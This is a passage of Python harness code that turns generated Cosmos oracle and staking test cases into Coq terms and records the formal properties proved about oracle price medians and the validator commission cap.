    for st, so in zip(inp["steps"], obs["steps"]):
        end = (so["h"] + 1) % vp == 0
        pending = pending or bool(st["votes"])
        if so["panic"]:
            fl.add("panic")
            break
        if end:
            if so["events"]:
                fl.add("period-with-quorum")
                if prev_noquorum_with_votes:
                    fl.add("quorum-after-no-quorum-period")
            elif pending:
                fl.add("period-without-quorum-but-votes")
            else:
                fl.add("silent-period")
            prev_noquorum_with_votes = (not so["events"]) and pending
            pending = False
        else:
            fl.add("mid-period-block")
        if so["prevotes"]:
            fl.add("prevotes-kept")
        win = inp["params"].get("win") or 0
        if win and (so["h"] + 1) % win == 0:
            fl.add("slash-window-end")
    views = [json.dumps(so.get("pre"), sort_keys=True) for so in obs["steps"]]
    if len(set(views)) > 1:
        fl.add("staking-view-changed")
    return fl


def _is_msg(rec_or_inp):
    inp = rec_or_inp.get("input", rec_or_inp)
    return inp.get("kind") == "msg"


_SP = {"l": "SpLower", "u": "SpUpper", "x": "SpBad"}


def _astr(i, sp):
    return "(mkAStr %d%%nat %s)" % (i, _SP[sp])


def _tuples(ts):
    return "[%s]" % "; ".join("(%d%%nat, %s)" % (t["p"], _z(t["r"])) for t in ts or [])


def _msg_case(rec):
    """strings are named by ids: salts and exchange-rate strings in first-appearance order (the harness builds the
    rates string as an injective function of the tuple list)"""
    inp, obs = rec["input"], rec["obs"]
    p = inp["params"]
    params = "(mkParams %s %s %s %s %s)" % (_z(p["vp"]), _z(p["thr"]), _z(p["minv"]), _z(p["exp"]), _z(p["band"]))
    salts, rates = {}, {}

    def sid(x):
        return salts.setdefault(x, len(salts) + 1)

    def rid(ts):
        return rates.setdefault(json.dumps(ts or [], sort_keys=True), len(rates) + 1)

    def _env(pre):
        vals = "[%s]" % "; ".join("mkVal %d%%nat %s %s" % (v["id"], _b(v["bonded"]), _z(v["power"])) for v in pre["order"])
        return "(mkHEnv %s %d%%nat %s %s [%s])" % (vals, pre["maxv"], _z(pre["btok"]), _z(pre["pr"]),
                                                 "; ".join("%d%%nat" % w for w in inp["wl"]))
    steps = []
    for st, so in zip(inp["steps"], obs["steps"]):
        ms = []
        for m, bonded in zip(st["msgs"] or [], so["bonded"]):
            v, f = _astr(m["val"], m["vsp"]), _astr(m["feeder"], m["fsp"])
            if m["kind"] == "prevote":
                h = "(mkHash %d%%nat %d%%nat %s)" % (sid(m.get("salt", "")), rid(m.get("t")), _astr(m.get("hfor", 0), m.get("hsp", "l")))
                ms.append("MPrevote (mkPMsg %s %s %s %s)" % (v, f, h, _b(bonded)))
            elif m["kind"] == "vote":
                ms.append("MVote (mkVMsg %s %s %d%%nat %d%%nat %s %s)" % (v, f, sid(m.get("salt", "")), rid(m.get("t")),
                                                                      _tuples(m.get("t")), _b(bonded)))
            else:
                ms.append("MDelegate (mkDMsg %s %s %s)" % (v, f, _b(bonded)))
        x = "(mkMStep [%s] %s)" % (";\n      ".join(ms), _z(so["h"]))
        o = "(mkMObs [%s] %s %s [%s] %s [%s])" % (
            "; ".join(_b(a) for a in so["acc"]), _b(so["panic"]), _rates(so["rates"]),
            "; ".join("(%d%%nat, %s)" % (e["p"], _z(e["r"])) for e in so["events"] or []),
            _votes(so["votes"]),
            "; ".join("(%d%%nat, %s)" % (pv["voter"], _z(pv["submit"])) for pv in so["prevotes"] or []))
        steps.append("(%s, %s, %s)" % (_env(so["pre"]), x, o))
    return "(CMsg %s %s [%s])" % (params, _rates(inp["rates"]), ";\n    ".join(steps))


def _msg_flags(rec):
    inp, obs = rec["input"], rec["obs"]
    vp = inp["params"]["vp"]
    fl = set()
    counted_upper = False
    pending = {}
    for st, so in zip(inp["steps"], obs["steps"]):
        for m, a in zip(st["msgs"] or [], so["acc"]):
            if m["vsp"] == "x" or m["fsp"] == "x":
                fl.add("mixed-case-field")
            ps = [t["p"] for t in m.get("t") or []]
            if m["kind"] == "vote" and len(set(ps)) < len(ps):
                adj = any(x == y for x, y in zip(ps, ps[1:]))
                apart = any(ps[i] == ps[j] for i in range(len(ps)) for j in range(i + 2, len(ps)) if any(q != ps[i] for q in ps[i + 1:j]))
                three = any(ps.count(q) >= 3 for q in ps)
                form = "three-times" if three else ("apart" if apart and not adj else "adjacent" if adj and not apart else "mixed")
                fl.add("repeated-pair-vote:%s:%s" % (form, "ACCEPTED" if a else "refused"))
            if not a:
                fl.add("refused-%s" % m["kind"])
                continue
            if m["vsp"] == "u":
                fl.add("accepted-%s-upper-validator" % m["kind"])
            if m["fsp"] == "u":
                fl.add("accepted-%s-upper-feeder" % m["kind"])
            if m["feeder"] != m["val"] and m["kind"] != "delegate":
                fl.add("accepted-from-delegated-feeder")
            if m["kind"] == "vote":
                pending[m["val"]] = m["vsp"]
        if so["panic"]:
            fl.add("panic")
            break
        if (so["h"] + 1) % vp == 0:
            if so["events"]:
                fl.add("period-with-quorum")
                if "u" in pending.values():
                    fl.add("quorum-with-upper-case-voter")
            elif pending:
                fl.add("period-without-quorum-but-votes")
            else:
                fl.add("silent-period")
            pending = {}
        else:
            fl.add("mid-period-block")
        win = inp["params"].get("win") or 0
        if win and (so["h"] + 1) % win == 0:
            fl.add("slash-window-end")
    return fl


def _is_params(rec_or_inp):
    inp = rec_or_inp.get("input", rec_or_inp)
    return inp.get("kind") == "params"


def to_coq_case(rec):
    if _is_params(rec):
        p, o = rec["input"]["params"], rec["obs"]
        params = "(mkParams %s %s %s %s %s)" % (_z(p["vp"]), _z(p["thr"]), _z(p["minv"]), _z(p["exp"]), _z(p["band"]))
        ed = {"ok": "(Some true)", "rejected": "(Some false)", "na": "None"}[o["edit"]]
        return "(CParams %s %s %s %s)" % (params, _b(o["validate_ok"]), ed, _b(o["stored_ok"]))
    if _is_hist(rec):
        return _hist_case(rec)
    if _is_msg(rec):
        return _msg_case(rec)
    inp, obs = rec["input"], rec["obs"]
    p = inp["params"]
    params = "(mkParams %s %s %s %s %s)" % (_z(p["vp"]), _z(p["thr"]), _z(p["minv"]), _z(p["exp"]), _z(p["band"]))
    if obs["panic"]:
        out = "Panic"
    else:
        out = "(Done [%s] [%s])" % (
            "; ".join("mkRate %d%%nat %s %s" % (r["p"], _z(r["r"]), _z(r["c"])) for r in obs["rates"]),
            "; ".join("(%d%%nat, %s)" % (e["p"], _z(e["r"])) for e in obs["events"]))
    return "(mkCase %s %s %s %s)" % (params, _state(inp, obs), _z(inp["h"]), out)


def _period_end(inp):
    return (inp["h"] + 1) % inp["params"]["vp"] == 0


def _eligible(rec):
    pre = rec["obs"]["pre"]
    out, n = set(), 0
    for v in pre["order"]:
        if n >= pre["maxv"]:
            break
        if v["bonded"]:
            out.add(v["id"])
            n += 1
    return out


def nontrivial(rec):
    inp = rec["input"]
    if _is_params(rec):
        return rec["obs"]["edit"] != "na"
    if _is_hist(rec):
        fl = _hist_flags(rec)
        return "period-without-quorum-but-votes" in fl or "period-with-quorum" in fl
    if _is_msg(rec):
        fl = _msg_flags(rec)
        return "period-without-quorum-but-votes" in fl or "period-with-quorum" in fl
    if not _period_end(inp):
        return False
    el = _eligible(rec)
    if any(v["voter"] in el and v["t"] for v in inp["votes"]):
        return True
    exp = inp["params"]["exp"]
    return any(abs(r["c"] + exp - inp["h"]) <= 1 for r in inp["rates"])


def classify(rec):
    inp, obs = rec["input"], rec["obs"]
    if _is_params(rec):
        return ["kind:params", "params:validate=%s" % obs["validate_ok"], "params:edit=%s" % obs["edit"]]
    if _is_hist(rec):
        return ["kind:history", "hist-steps=%d" % len(inp["steps"])] + ["hist:" + f for f in sorted(_hist_flags(rec))]
    if _is_msg(rec):
        return ["kind:msg-history", "msg-steps=%d" % len(inp["steps"])] + ["msg:" + f for f in sorted(_msg_flags(rec))]
    ks = ["kind:single", "validators=%d" % len(inp["vals"]), "period_end=%s" % _period_end(inp)]
    ks.append("outcome:" + ("panic" if obs["panic"] else "events=%d" % min(len(obs["events"]), 4)))
    el = _eligible(rec)
    pre = obs["pre"]
    if any(v["bonded"] and v["power"] == "0" for v in pre["order"]):
        ks.append("has:zero-power-bonded")
    if any(not v["bonded"] for v in pre["order"]):
        ks.append("has:unbonded-in-power-store")
    if sum(1 for v in pre["order"] if v["bonded"]) > pre["maxv"]:
        ks.append("has:maxvalidators-cutoff")
    if any(v["voter"] not in el for v in inp["votes"]):
        ks.append("has:ineligible-voter")
    if any(int(t["r"]) <= 0 for v in inp["votes"] for t in v["t"]):
        ks.append("has:abstain")
    if any(t["p"] not in inp["wl"] for v in inp["votes"] for t in v["t"]):
        ks.append("has:non-whitelisted-vote")
    if any(int(t["r"]) >= 10 ** 48 for v in inp["votes"] for t in v["t"]):
        ks.append("has:huge-rate")
    if not obs["panic"]:
        evp = {e["p"] for e in obs["events"]}
        voted = {t["p"] for v in inp["votes"] if v["voter"] in el for t in v["t"]}
        if _period_end(inp) and voted - evp:
            ks.append("has:pair-below-quorum")
        before = {(r["p"], r["c"]) for r in inp["rates"]}
        after = {(r["p"], r["c"]) for r in obs["rates"]}
        if {p for p, _ in before} - {p for p, _ in after}:
            ks.append("has:expired-rate-dropped")
        if before & after and _period_end(inp):
            ks.append("has:rate-kept")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    inp, obs = rec["input"], rec["obs"]
    if _is_params(rec):
        return {"kind": "params-acceptance", "validate_ok": obs["validate_ok"], "edit": obs["edit"]}
    if _is_hist(rec):
        return {"kind": "history", "flags": sorted(_hist_flags(rec))}
    if _is_msg(rec):
        fl = _msg_flags(rec)
        return {"kind": "msg-history", "upper_case_voter": "accepted-vote-upper-validator" in fl,
                "repeated_pair_accepted": any(f.startswith("repeated-pair-vote") and f.endswith("ACCEPTED") for f in fl),
                "quorum": "period-with-quorum" in fl, "panic": "panic" in fl}
    return {"kind": "panic" if obs["panic"] else "price-update",
            "period_end": _period_end(inp),
            "abstain": any(int(t["r"]) <= 0 for v in inp["votes"] for t in v["t"])}


def input_size(inp):
    if _is_params(inp):
        return 1
    if _is_msg(inp):
        return 10 * len(inp["steps"]) + sum(len(m.get("t") or []) + 3 for st in inp["steps"] for m in st["msgs"] or []) \
            + 5 * len(inp["vals"]) + len(inp["wl"])
    if _is_hist(inp):
        return 10 * len(inp["steps"]) + sum(len(v["t"]) + 2 for st in inp["steps"] for v in st["votes"] or []) \
            + sum(len(st["prevotes"] or []) for st in inp["steps"]) + 5 * len(inp["vals"])
    return (len(inp["vals"]) * 10 + sum(len(v["t"]) + 2 for v in inp["votes"]) + len(inp["rates"]) * 2 + len(inp["wl"])
            + sum(len(v["tok"]) for v in inp["vals"]))


def _shrink_hist(inp):
    out = []
    steps = inp["steps"]
    for k in range(len(steps) - 1, 0, -1):
        c = copy.deepcopy(inp)
        c["steps"] = c["steps"][:k]
        out.append(c)
    for i in range(len(steps)):
        if len(steps) > 1:
            c = copy.deepcopy(inp)
            c["steps"].pop(i)
            out.append(c)
        if steps[i]["prevotes"]:
            c = copy.deepcopy(inp)
            c["steps"][i]["prevotes"] = []
            out.append(c)
        for j in range(len(steps[i]["votes"] or [])):
            c = copy.deepcopy(inp)
            c["steps"][i]["votes"].pop(j)
            out.append(c)
    return out


def _shrink_msg(inp):
    out = []
    steps = inp["steps"]
    for k in range(len(steps) - 1, 0, -1):
        c = copy.deepcopy(inp)
        c["steps"] = c["steps"][:k]
        out.append(c)
    for i in range(len(steps)):
        if len(steps) > 1 and not steps[i]["msgs"]:
            c = copy.deepcopy(inp)
            c["steps"].pop(i)
            out.append(c)
        for j in range(len(steps[i]["msgs"] or [])):
            c = copy.deepcopy(inp)
            c["steps"][i]["msgs"].pop(j)
            out.append(c)
        # a validator's commitment and reveal together
        vals = sorted({m["val"] for m in steps[i]["msgs"] or []})
        for v in vals:
            c = copy.deepcopy(inp)
            for st in c["steps"]:
                st["msgs"] = [m for m in st["msgs"] if m["val"] != v]
            out.append(c)
    for i in range(len(steps)):
        for j, m in enumerate(steps[i]["msgs"] or []):
            if m["fsp"] != "l":
                c = copy.deepcopy(inp)
                c["steps"][i]["msgs"][j]["fsp"] = "l"
                out.append(c)
            if len(m.get("t") or []) > 1:
                # the same tuple dropped from every message carrying this rates list (commitment and reveal stay consistent)
                for k in range(len(m["t"])):
                    c = copy.deepcopy(inp)
                    for st in c["steps"]:
                        for mm in st["msgs"]:
                            if mm.get("t") == m["t"]:
                                mm["t"] = mm["t"][:k] + mm["t"][k + 1:]
                    out.append(c)
    if inp["params"].get("win"):
        c = copy.deepcopy(inp)
        c["params"].pop("win", None)
        c["params"].pop("mv", None)
        out.append(c)
    for i in range(len(inp["wl"])):
        if len(inp["wl"]) > 1:
            c = copy.deepcopy(inp)
            c["wl"].pop(i)
            out.append(c)
    return out


def shrink_candidates(inp):
    if _is_params(inp):
        return []
    if _is_hist(inp):
        return _shrink_hist(inp)
    if _is_msg(inp):
        return _shrink_msg(inp)
    out = []

    def variant(f):
        c = copy.deepcopy(inp)
        if f(c) is not False:
            out.append(c)

    for i in range(len(inp["votes"])):
        variant(lambda c, i=i: c["votes"].pop(i))
        for j in range(len(inp["votes"][i]["t"])):
            variant(lambda c, i=i, j=j: c["votes"][i]["t"].pop(j))
    for i in range(len(inp["rates"])):
        variant(lambda c, i=i: c["rates"].pop(i))
    if len(inp["vals"]) > 1:
        # drop the last validator (voter indices stay valid; its votes become a stranger's)
        def drop_last(c):
            k = len(c["vals"]) - 1
            c["vals"].pop()
            c["votes"] = [v for v in c["votes"] if v["voter"] != k]
        variant(drop_last)
    for i, v in enumerate(inp["vals"]):
        if v["undel"] != "0" or v["jail"] or v["late"]:
            variant(lambda c, i=i: c["vals"][i].update({"undel": "0", "jail": False, "late": False}))
        if v["tok"] != "1000000":
            variant(lambda c, i=i: c["vals"][i].update({"tok": "1000000", "undel": "0"}))
    if inp["maxv"]:
        variant(lambda c: c.update({"maxv": 0}))
    for i in range(len(inp["wl"])):
        variant(lambda c, i=i: c["wl"].pop(i))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over an exact-arithmetic (LegacyDec on raw integers) model of oracle.EndBlocker's price path, "
                 "for ALL validator sets / powers / Votes stores / whitelists / stored rates / heights / parameters: "
                 "C10_holds_for_every_input (for Validate-accepted parameters the update never panics, a pair gets a "
                 "price-update event and a fresh store entry iff it is whitelisted and its votes carry power <> 0, >= "
                 "RoundInt(VoteThreshold x bonded power) and come from >= MinVoters positive votes; the rate satisfies the "
                 "balance property 2*below <= T and 2*above <= T+1 and is a submitted positive rate of an eligible validator "
                 "with positive power; every other stored rate is kept iff created+ExpirationBlocks > height), "
                 "C10_replaced_iff_quorum (no domain condition), C10_median_is_lowest (unique characterisation), "
                 "C10_median_sort_invariant / _permutation_invariant (Go's unstable sort and store order are irrelevant), "
                 "C10_irrelevant_votes_no_influence (deleting all votes of ineligible validators, for non-whitelisted pairs and "
                 "all abstentions leaves the outcome unchanged), C10_expiry_exact (over histories of blocks), "
                 "C10_threshold_within_half_unit, C10_no_panic_in_domain; over histories of vote periods on one keeper: "
                 "C10_history_holds, C10_period_end_clears_votes, C10_price_depends_only_on_votes_of_its_period (a published "
                 "rate depends only on the votes submitted since the previous period end); at MESSAGE level (votes enter through "
                 "prevote / vote / feeder-delegation messages whose address fields are strings in any accepted spelling): "
                 "C10_msg_history_holds (every EndBlocker outcome satisfies the property w.r.t. the votes cast by validator identity "
                 "through accepted messages), C10_stored_voter_is_canonical, C10_rate_independent_of_spelling (accept flags and "
                 "published rates do not depend on the spelling of validator / feeder / operator / delegate fields), "
                 "C10_raw_voter_string_refuted (a msg server storing the raw message string violates the property), "
                 "C10_one_vote_per_validator_and_pair (with the parser's all-pairs duplicate test the tally never sees two votes of one "
                 "validator for one pair, whatever repeated-pair strings are sent), C10_adjacent_only_duplicate_check_refuted (a parser "
                 "comparing only with the preceding tuple lets a validator be tallied twice). The model is run against the real keeper "
                 "(oracle.EndBlocker on the x/oracle fixture) on generated single calls, multi-period histories AND message-level histories (every vote through ValidateBasic + the real msg server, upper-case bech32 included) every run and the proved-sound checker "
                 "Pb is evaluated on the implementation's own output. C10_refuted_before_fix proves the pre-d9ae51e code "
                 "violates the property (abstention published as price)."),
        "design_ref": "DESIGN.md §5 C10",
    },
    "level_note": ("Assumes: staking state as returned by the staking keeper (read back and given to the model), powers >= 0 "
                   "and summing below 2^63. Domain of the full theorem = the property's own quantifier: parameters accepted by "
                   "Params.Validate (Spec.params_valid, tied to the real Validate and MsgEditOracleParams by a driver), bonded "
                   "power fitting int64, rates being LegacyDec values. The former overflow side conditions are gone: the three "
                   "defects found by this check (uint64 wrap of created+ExpirationBlocks, VoteThreshold unbounded / edits not "
                   "validated, Tally median.Add(spread) overflow) were fixed in /repo (48f939b, 662a06f, 66a0ce3); the old "
                   "variants are kept behind flags with refutation witnesses. Trusted: Coq kernel + vm_compute, Lib/Dec.v, the "
                   "Go drivers' canonicalisation, tools/props/c10.py rendering. A change of the pivot test from >= to > yields "
                   "another valid weighted median: it is caught by the correspondence (model mismatch), not by Pb. "
                   "params.Whitelist = WhitelistedPairs store along histories (refreshWhitelist not modelled)."),
    "technique": "generated structural facts (go/ast) with obligations instantiating the theorems for the current tree + Coq proof over an exact-arithmetic model + differential correspondence on keeper-level EndBlocker runs",
}
