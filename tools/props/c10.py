"""C10 — oracle prices are the power-weighted median of a sufficient quorum."""
import copy

ID = "C10"
HARNESS_TEST = "TestC10"
COQ_MODEL = ["C10/Check.v"]
COQ_PROOF_DEPS = ["C10/Proofs.v"]
COQ_OBLIG = ["C10/Property.v"]
CASES_HEADER = "Require Import Nib.C10.Model Nib.C10.Spec Nib.C10.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("case = one real oracle.EndBlocker call on the x/oracle keeper fixture after a generated staking situation "
        "(1-12 validators, powers 0/1/ties/huge, fractional tokens, unbonded late joiners, undelegated-after-bonding, "
        "jailed, MaxValidators cut-off), generated Params (Validate-accepted), whitelist, Votes store (positive / "
        "abstain / missing / strangers / non-whitelisted / duplicate tuples / huge rates) and pre-existing rates around "
        "the expiry boundary; non-trivial = a period end where at least one pair has votes of eligible validators "
        "(threshold + MinVoters + median logic runs) or a stored rate is at its expiry boundary; distinct = distinct input")
ASSUMPTIONS = [
    "staking state (power-store order, bonded flags, consensus power, total bonded tokens) is read back through the "
    "staking keeper API before the call and handed to the model as input; the staking module itself is not modelled",
    "the property predicate is only required inside the overflow-free domain (threshold*power in Dec range, |rate| <= "
    "2^255, created+ExpirationBlocks < 2^64); outside it the model still predicts the implementation's panic / wrap "
    "and the correspondence is checked",
    "voting powers are non-negative and their sum fits int64",
]
TRUSTED = ["coq/Lib/Dec.v (LegacyDec arithmetic on raw integers, validated against cosmossdk.io/math)"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 7200}


def _z(s):
    return "(%s)%%Z" % int(s)


def _b(x):
    return "true" if x else "false"


def _state(inp, obs):
    pre = obs["pre"]
    vals = "[%s]" % "; ".join("mkVal %d%%nat %s %s" % (v["id"], _b(v["bonded"]), _z(v["power"])) for v in pre["order"])
    votes = "[%s]" % "; ".join(
        "mkAVote %d%%nat [%s]" % (v["voter"], "; ".join("(%d%%nat, %s)" % (t["p"], _z(t["r"])) for t in v["t"]))
        for v in inp["votes"])
    rates = "[%s]" % "; ".join("mkRate %d%%nat %s %s" % (r["p"], _z(r["r"]), _z(r["c"])) for r in inp["rates"])
    wl = "[%s]" % "; ".join("%d%%nat" % w for w in inp["wl"])
    return "(mkState %s %d%%nat %s %s %s %s %s)" % (vals, pre["maxv"], _z(pre["btok"]), _z(pre["pr"]), wl, votes, rates)


def to_coq_case(rec):
    inp, obs = rec["input"], rec["obs"]
    p = inp["params"]
    params = "(mkParams %s %s %s %s %s)" % (_z(p["vp"]), _z(p["thr"]), _z(p["minv"]), _z(p["exp"]), _z(p["band"]))
    if obs["panic"]:
        out = "Panic"
    else:
        out = "(Done [%s] [%s])" % (
            "; ".join("mkRate %d%%nat %s %s" % (r["p"], _z(r["r"]), _z(r["c"])) for r in obs["rates"]),
            "; ".join("(%d%%nat, %s)" % (e["p"], _z(e["r"])) for e in obs["events"]))
    return "(mkCase %s %s %s %s)" % (params, _state(inp, obs), _z(inp["h"]), out)


def _period_end(inp):
    return (inp["h"] + 1) % inp["params"]["vp"] == 0


def _eligible(rec):
    pre = rec["obs"]["pre"]
    out, n = set(), 0
    for v in pre["order"]:
        if n >= pre["maxv"]:
            break
        if v["bonded"]:
            out.add(v["id"])
            n += 1
    return out


def nontrivial(rec):
    inp = rec["input"]
    if not _period_end(inp):
        return False
    el = _eligible(rec)
    if any(v["voter"] in el and v["t"] for v in inp["votes"]):
        return True
    exp = inp["params"]["exp"]
    return any(abs(r["c"] + exp - inp["h"]) <= 1 for r in inp["rates"])


def classify(rec):
    inp, obs = rec["input"], rec["obs"]
    ks = ["validators=%d" % len(inp["vals"]), "period_end=%s" % _period_end(inp)]
    ks.append("outcome:" + ("panic" if obs["panic"] else "events=%d" % min(len(obs["events"]), 4)))
    el = _eligible(rec)
    pre = obs["pre"]
    if any(v["bonded"] and v["power"] == "0" for v in pre["order"]):
        ks.append("has:zero-power-bonded")
    if any(not v["bonded"] for v in pre["order"]):
        ks.append("has:unbonded-in-power-store")
    if sum(1 for v in pre["order"] if v["bonded"]) > pre["maxv"]:
        ks.append("has:maxvalidators-cutoff")
    if any(v["voter"] not in el for v in inp["votes"]):
        ks.append("has:ineligible-voter")
    if any(int(t["r"]) <= 0 for v in inp["votes"] for t in v["t"]):
        ks.append("has:abstain")
    if any(t["p"] not in inp["wl"] for v in inp["votes"] for t in v["t"]):
        ks.append("has:non-whitelisted-vote")
    if any(int(t["r"]) >= 10 ** 48 for v in inp["votes"] for t in v["t"]):
        ks.append("has:huge-rate")
    if not obs["panic"]:
        evp = {e["p"] for e in obs["events"]}
        voted = {t["p"] for v in inp["votes"] if v["voter"] in el for t in v["t"]}
        if _period_end(inp) and voted - evp:
            ks.append("has:pair-below-quorum")
        before = {(r["p"], r["c"]) for r in inp["rates"]}
        after = {(r["p"], r["c"]) for r in obs["rates"]}
        if {p for p, _ in before} - {p for p, _ in after}:
            ks.append("has:expired-rate-dropped")
        if before & after and _period_end(inp):
            ks.append("has:rate-kept")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    inp, obs = rec["input"], rec["obs"]
    return {"kind": "panic" if obs["panic"] else "price-update",
            "period_end": _period_end(inp),
            "abstain": any(int(t["r"]) <= 0 for v in inp["votes"] for t in v["t"])}


def input_size(inp):
    return (len(inp["vals"]) * 10 + sum(len(v["t"]) + 2 for v in inp["votes"]) + len(inp["rates"]) * 2 + len(inp["wl"])
            + sum(len(v["tok"]) for v in inp["vals"]))


def shrink_candidates(inp):
    out = []

    def variant(f):
        c = copy.deepcopy(inp)
        if f(c) is not False:
            out.append(c)

    for i in range(len(inp["votes"])):
        variant(lambda c, i=i: c["votes"].pop(i))
        for j in range(len(inp["votes"][i]["t"])):
            variant(lambda c, i=i, j=j: c["votes"][i]["t"].pop(j))
    for i in range(len(inp["rates"])):
        variant(lambda c, i=i: c["rates"].pop(i))
    if len(inp["vals"]) > 1:
        # drop the last validator (voter indices stay valid; its votes become a stranger's)
        def drop_last(c):
            k = len(c["vals"]) - 1
            c["vals"].pop()
            c["votes"] = [v for v in c["votes"] if v["voter"] != k]
        variant(drop_last)
    for i, v in enumerate(inp["vals"]):
        if v["undel"] != "0" or v["jail"] or v["late"]:
            variant(lambda c, i=i: c["vals"][i].update({"undel": "0", "jail": False, "late": False}))
        if v["tok"] != "1000000":
            variant(lambda c, i=i: c["vals"][i].update({"tok": "1000000", "undel": "0"}))
    if inp["maxv"]:
        variant(lambda c: c.update({"maxv": 0}))
    for i in range(len(inp["wl"])):
        variant(lambda c, i=i: c["wl"].pop(i))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over an exact-arithmetic (LegacyDec on raw integers) model of oracle.EndBlocker's price path, "
                 "for ALL validator sets / powers / Votes stores / whitelists / stored rates / heights / parameters: "
                 "C10_holds_for_every_input (inside the overflow-free domain the update never panics, a pair gets a "
                 "price-update event and a fresh store entry iff it is whitelisted and its votes carry power <> 0, >= "
                 "RoundInt(VoteThreshold x bonded power) and come from >= MinVoters positive votes; the rate satisfies the "
                 "balance property 2*below <= T and 2*above <= T+1 and is a submitted positive rate of an eligible validator "
                 "with positive power; every other stored rate is kept iff created+ExpirationBlocks > height), "
                 "C10_replaced_iff_quorum (no domain condition), C10_median_is_lowest (unique characterisation), "
                 "C10_median_sort_invariant / _permutation_invariant (Go's unstable sort and store order are irrelevant), "
                 "C10_irrelevant_votes_no_influence (deleting all votes of ineligible validators, for non-whitelisted pairs and "
                 "all abstentions leaves the outcome unchanged), C10_expiry_exact (over histories of blocks), "
                 "C10_threshold_within_half_unit, C10_no_panic_in_domain. The model is run against the real keeper "
                 "(oracle.EndBlocker on the x/oracle fixture) on generated situations every run and the proved-sound checker "
                 "Pb is evaluated on the implementation's own output. C10_refuted_before_fix proves the pre-d9ae51e code "
                 "violates the property (abstention published as price)."),
        "design_ref": "DESIGN.md §5 C10",
    },
    "level_note": ("Assumes: staking state as returned by the staking keeper (read back and given to the model), powers >= 0 "
                   "and summing below 2^63. Domain of the full theorem: VoteThreshold*bondedPower inside the Dec range and "
                   "below 2^256 after rounding, |rate| <= 2^255, created+ExpirationBlocks < 2^64, RewardBand in [0,1]. Outside "
                   "it the current code provably (C10_*_outside_domain, confirmed on the implementation by the driver's fixed "
                   "openers) wraps the uint64 expiry sum or panics in EndBlock; Params.Validate accepts such values - reported "
                   "as low-severity findings, not counted as violations. Trusted: Coq kernel + vm_compute, Lib/Dec.v, the Go "
                   "driver's canonicalisation, tools/props/c10.py rendering. A change of the pivot test from >= to > yields "
                   "another valid weighted median: it is caught by the correspondence (model mismatch), not by Pb."),
    "technique": "Coq proof over an exact-arithmetic model + differential correspondence on keeper-level EndBlocker runs",
}
