"""C17 — no transaction can set a validator commission above the 25% cap."""
import json

ID = "C17"
GEN = "c17"
HARNESS_TEST = "TestC17"
COQ_MODEL = ["C17/Check.v", "Gen/C17Facts.v", "C17/Current.v"]
COQ_PROOF_DEPS = ["C17/Proofs.v", "C17/IcaList.v"]
COQ_OBLIG = ["C17/Property.v", "Gen/C17Oblig.v"]
CASES_HEADER = "Require Import Nib.C17.AnteFacts Nib.C17.CarrierTree Nib.C17.Model Nib.C17.Spec Nib.C17.Check Nib.C17.Current."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_cfg current_genesis_cfg"
VIOLATES_FN = "violates"
RULE = ("case = history of 2-12 transactions on a fresh chain, each delivered in its own block through "
        "BeginBlock/DeliverTx/EndBlock/Commit after advancing the clock (5 s .. 25 h); a transaction carries 1-3 message "
        "trees: MsgCreateValidator / MsgEditValidator (rates around the cap: 0.25, 0.25+1e-18, 0.9, ...; high max rates) "
        "/ MsgGrant / MsgSend at the top level or under 1-4 wrappers (authz MsgExec with self- or grant-based authority, "
        "the reflect.wasm contract dispatching Stargate messages, gov MsgSubmitProposal, x/group MsgSubmitProposal with "
        "Exec = TRY / unspecified for a one-vote group whose policy account (actor 12) is the operator — generated on every "
        "tree: where the linked application does not route x/group the transaction must be rejected —, and, whenever the "
        "run-time probe of the linked application reports a routed carrier type the driver has no constructor for, that type "
        "filled by reflection), plus EVM / unknown extension "
        "options; about 1 case in 7 starts from a genesis carrying 1-3 gentxs (delivered by x/genutil from InitChain at block "
        "height 0: staking messages bare / under exec / behind harmless messages, around and above the cap) on a chain "
        "without pre-set validator; non-trivial = a staking message with rate > 0.25 sits under at least one wrapper, or an accepted "
        "staking message sits under a wrapper, or an EditValidator is delivered >= 24 h after the last change; "
        "distinct = distinct input")
ASSUMPTIONS = [
    "accounts are funded and consensus pubkeys fresh, so CreateValidator fails only for the modelled reasons",
    "the ICA host path is not driven (no IBC counter-party): it is a hypothesis of C17_cap_partial and refuted as a model theorem",
    "governance-passed proposals are executed by the EndBlocker, not by a transaction: hypothesis gov_trusted of C17_cap_partial",
]
TRUSTED = [
    "harness/gen/c17/antefacts (go/ast): decorator lists, extension-option switch arms, guard type tests/recursion, comparison sites, MAX_COMMISSION literal, wasm handler checks",
    "harness/c17/carriers (run time, linked application): which registered sdk.Msg types the msg service router executes and which of their Any fields accept an sdk.Msg (the type's own UnpackInterfaces run on a packed MsgSend) / which have a []sdk.Msg accessor; carriers that hold messages as bytes (wasm, IBC packets) are invisible to it and modelled unconditionally",
]


def _z(s):
    return "(%d)%%Z" % int(s)


KINDS = {"create": "MKLeaf K_CREATE", "edit": "MKLeaf K_EDIT", "grant": "MKLeaf K_GRANT", "send": "MKLeaf K_SEND",
         "exec": "MKExec", "wasm": "MKWasm", "gov": "MKGov", "group": "MKGroup"}


def _tree(n):
    k = n["k"]
    if k == "create":
        return "Leaf (CreateVal %d %s %s %s)" % (n.get("op", 0), _z(n["rate"]), _z(n["max"]), _z(n["chg"]))
    if k == "edit":
        r = n.get("rate")
        return "Leaf (EditVal %d %s)" % (n.get("op", 0), "None" if r is None else "(Some %s)" % _z(r))
    if k == "grant":
        return "Leaf (Grant %d %d (%s))" % (n.get("from", 0), n.get("to", 0), KINDS[n["t"]])
    if k == "send":
        return "Leaf (Send %d)" % n.get("from", 0)
    cs = "[" + "; ".join(_tree(c) for c in n.get("c") or []) + "]"
    if k == "exec":
        return "Exec %d %s" % (n.get("g", 0), cs)
    if k == "wasm":
        return "Wasm %d 10 %s" % (n.get("g", 0), cs)
    if k == "gov":
        return "Gov %d %s" % (n.get("g", 0), cs)
    if k == "group":
        return "Group %d %d %s %s" % (n.get("g", 0), n.get("pol", 0), "true" if n.get("try") else "false", cs)
    if k == "carrier":
